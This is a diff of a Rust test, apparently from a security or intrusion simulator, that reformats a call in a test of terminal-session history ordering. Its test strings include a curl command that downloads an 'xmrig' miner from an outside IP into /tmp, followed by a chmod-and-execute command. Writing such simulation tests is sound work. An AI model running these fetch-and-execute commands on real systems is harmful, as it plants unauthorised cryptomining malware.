@@ -61,7 +61,10 @@ mod tests {
     fn history_accumulates_in_order() {
         let mut t = TerminalSession::new(1, "alice", SimTime::ZERO);
         t.run(SimTime::from_secs(1), "ls -la");
-        t.run(SimTime::from_secs(2), "curl http://203.0.0.9/xmrig -o /tmp/x");
+        t.run(
+            SimTime::from_secs(2),
+            "curl http://203.0.0.9/xmrig -o /tmp/x",
+        );
         t.run(SimTime::from_secs(3), "chmod +x /tmp/x && /tmp/x");
         assert_eq!(t.history.len(), 3);
         assert!(t.history.windows(2).all(|w| w[0].time <= w[1].time));
